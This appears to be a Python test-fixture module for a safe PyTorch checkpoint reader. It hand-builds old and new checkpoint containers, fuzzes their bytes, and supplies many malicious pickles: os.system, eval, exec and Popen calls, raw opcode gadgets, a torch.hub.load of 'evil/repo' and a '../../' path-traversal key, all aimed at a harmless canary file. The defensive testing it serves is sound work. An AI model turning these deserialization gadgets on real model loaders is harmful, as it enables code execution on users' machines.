"""Foreign checkpoint files written by hand: both containers, single tensors, and pickles that mean harm."""

import io
import os
import pickle
import random
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from typing import Any

import torch

from hat.files.tensors import Opaque

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)


def sequence(body: bytes, keys: tuple[str, ...] = (), tail: bytes = b"", little: bool = True) -> bytes:
    """Return `body` in the container of PyTorch before 1.6."""
    head = MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": little}, 2)
    return head + body + pickle.dumps(list(keys), 2) + tail


def archive(body: bytes, method: int = zipfile.ZIP_STORED, **entries: bytes) -> bytes:
    """Return `body` in the zip container."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        file.writestr("x/data.pkl", body)
        for name, content in {"version": b"3\n", "byteorder": b"little", **entries}.items():
            file.writestr(f"x/{name.replace('__', '/')}", content)
    return buffer.getvalue()


def head(body: bytes) -> bytes:
    """Return the container of PyTorch before 1.6 with `body` where the system is described."""
    return MAGIC + pickle.dumps(1001, 2) + body + pickle.dumps({}, 2) + pickle.dumps([], 2)


def keys(body: bytes) -> bytes:
    """Return the container of PyTorch before 1.6 with `body` where its storages are listed."""
    return sequence(pickle.dumps({}, 2))[: -len(pickle.dumps([], 2))] + body


def old_tar(body: bytes) -> bytes:
    """Return `body` in the container of PyTorch 0.1."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            info = tarfile.TarInfo(name)
            info.size = len(body)
            file.addfile(info, io.BytesIO(body))
    return buffer.getvalue()


def constants(body: bytes) -> bytes:
    """Return a TorchScript archive with `body` as values, constants and version."""
    return archive(body, constants__pkl=body, version=body)


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "sequence": sequence,
    "sequence head": head,
    "sequence keys": keys,
    "zip": archive,
    "script": constants,
    "tar": old_tar,
    "raw": bytes,
}


def torch_bytes(value: Any, zipped: bool, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer, pickle_protocol=protocol, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def assert_inert(value: Any) -> None:
    """Only what the reader promises came out."""
    allowed = (str, bytes, bytearray, int, float, bool, type(None), torch.Tensor)
    seen, todo = set[int](), [value]
    while todo:  # a list may hold itself, or lie deep in others
        node = todo.pop()
        if isinstance(node, dict | list | tuple | set | frozenset):
            if id(node) not in seen:
                seen.add(id(node))
                todo += [*node, *node.values()] if isinstance(node, dict) else node
        else:
            assert isinstance(node, allowed) or type(node) is Opaque or node is Opaque, type(node)


def mutated(content: bytes, rng: random.Random) -> bytes:
    """Return `content` with a few bytes changed, cut, doubled or moved."""
    changed = bytearray(content)
    for _ in range(rng.randint(1, 4)):
        at, start = (rng.randrange(len(changed) + 1) for _ in range(2))
        size = rng.choice((0, 1, 1 << 31, 0xFFFFFFFF))
        end, content = rng.choice(
            [
                (at + 1, rng.randbytes(1)),
                (at + rng.randint(1, 20), b""),
                (at, rng.randbytes(rng.randint(1, 8))),
                (at, changed[start : start + rng.randint(1, 30)]),
                (at + 4, struct.pack("<I", size)),
            ]
        )
        changed[at:end] = content
    return bytes(changed)


class Meter:
    """A class of another program, as the reader sees it."""

    def __init__(self) -> None:
        self.total = 1.5

    def __setstate__(self, state: dict) -> None:
        raise AssertionError("the reader made a real object")


class Runs:
    """Pickles to a call."""

    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> tuple:
        return self.call[0], self.call[1:]


def tensor_pickle(
    size: tuple, stride: tuple, offset: int = 0, numel: int = 4, kind: str = "FloatStorage"
) -> bytes:
    """Return the pickle of one tensor on storage 0."""
    pid = b"(X\x07\x00\x00\x00storagectorch\n" + kind.encode() + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
    shape = b"".join(pickle.dumps(numbers, 2)[2:-1] for numbers in (size, stride))
    begin, end = (pickle.dumps(number, 2)[2:-1] for number in (numel, offset))
    call = b"ctorch._utils\n_rebuild_tensor_v2\n((" + pid[1:] + begin + b"tQ" + end + shape
    return b"\x80\x02" + call + b"\x89NtR."


RAW = struct.pack("<4f", 1, 2, 3, 4)


def text(content: str) -> bytes:
    return b"X" + struct.pack("<I", len(content)) + content.encode()


def gadgets(canary: str) -> dict[str, bytes]:
    """Return pickles that would act in a trusting reader, and some that are damaged."""
    touch = f"touch {canary}"
    call, named = text(touch), b"cposix\nsystem\n"
    storage, kind, end = (
        b"(" + text("storage"),
        b"ctorch\nFloatStorage\n",
        text("0") + text("cpu") + b"K\x04tQ.",
    )
    acts = {
        "system": Runs(os.system, touch),
        "eval": Runs(eval, f"open({canary!r}, 'w')"),
        "exec": Runs(exec, f"open({canary!r}, 'w')"),
        "open": Runs(open, canary, "w"),
        "import": Runs(__import__, "antigravity"),
        "popen": Runs(subprocess.Popen, ["touch", canary]),
    }
    found = {f"{name} {n}": pickle.dumps(act, n) for n in range(6) for name, act in acts.items()}
    return found | {
        "global": named + b"(" + call + b"tR.",
        "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + call + b"tR.",
        "inst": b"(S'" + touch.encode() + b"'\niposix\nsystem\n.",
        "obj": b"(" + named + call + b"o.",
        "newobj": named + b"(" + call + b"t\x81.",
        "newobj_ex": named + b"(" + call + b"t}\x92.",
        "ext": b"\x82\x01.",
        "partial": b"cfunctools\npartial\n(" + named + call + b"tR)R.",
        "hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR.",
        "torch load": b"ctorch\nload\n(" + text(canary) + b"tR.",
        "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR\x82\x01.",
        "build": named + b"(" + text("__setstate__") + named + b"db" + call + b"\x85R.",
        "build dict": b"}}" + text("__class__") + named + b"sb.",
        "persistent text": b"P" + touch.encode() + b"\n.",
        "rebuild of names": b"ctorch._utils\n_rebuild_tensor_v2\n(" + named + b"K\x00))tR.",
        "rebuild of hooks": b"ctorch._utils\n_rebuild_parameter\n(" + named + b"\x88" + named + b")RtR.",
        "call of text": text("os.system") + b"(" + call + b"tR.",
        "persistent number": b"\x80\x02K\x01Q.",
        "persistent call": named + b"(" + call + b"tRQ.",
        "persistent of a persistent": storage + storage + b"tQtQ.",
        "persistent module": b"(" + text("module") + named + text("x.py") + call + b"tQ.",
        "persistent system": storage + named + end,
        "persistent giant key": storage + kind + text("k" * 1_000_000) + b"NK\x04tQ.",
        "persistent path key": storage + kind + text("../../" + canary) + b"NK\x04tQ.",
        "recursive list": b"]q\x00h\x00a.",
        "recursive dict": b"}q\x00K\x01h\x00s.",
        "no end": b"N",
    }
